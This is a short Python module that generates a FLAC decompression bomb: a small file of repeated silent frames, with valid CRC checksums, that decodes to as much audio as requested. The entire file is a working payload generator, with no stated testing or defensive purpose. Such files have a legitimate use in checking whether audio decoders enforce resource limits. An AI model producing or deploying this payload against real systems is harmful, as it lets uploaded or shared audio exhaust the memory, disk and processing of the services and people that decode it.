"""A small file that would unpack to a very large one: FLAC of silence, written frame by frame."""

import io

CHANNELS = 8
FRAME_SAMPLES = 65_535  # the most that fit in a frame
FRAME_BYTES = CHANNELS * FRAME_SAMPLES * 4  # of float32: 2 MiB, made of some 30


def flac_bomb(unpacked_bytes: int) -> bytes:
    """Return a FLAC file of at least so much sound (RFC 9639)."""
    file = io.BytesIO()
    # Nothing follows this block; its length; samples in each frame; sizes that are not known;
    # 8000 Hz, 8 channels, 8 bits; a length and a checksum that are not known.
    facts = 8000 << 44 | (CHANNELS - 1) << 41 | 7 << 36
    file.write(b"fLaC\x80" + (34).to_bytes(3, "big") + 2 * FRAME_SAMPLES.to_bytes(2, "big"))
    file.write(bytes(6) + facts.to_bytes(8, "big") + bytes(16))
    for number in range(-(-unpacked_bytes // FRAME_BYTES)):
        # Frames of one size, which is told in 16 bits; 8 channels; the rest as above.
        header = b"\xff\xf8\x70\x70" + chr(number).encode() + (FRAME_SAMPLES - 1).to_bytes(2, "big")
        frame = header + _checksum(header, 0x07, 8) + CHANNELS * b"\x00\x00"  # constant, and zero
        file.write(frame + _checksum(frame, 0x8005, 16))
    return file.getvalue()


def _checksum(content: bytes, polynomial: int, bits: int) -> bytes:
    """Return a cyclic redundancy check that begins with zero."""
    rest = 0
    for byte in content:
        rest ^= byte << (bits - 8)
        for _ in range(8):
            rest = rest << 1 ^ (polynomial if rest >> (bits - 1) else 0)
            rest &= (1 << bits) - 1
    return rest.to_bytes(bits // 8, "big")
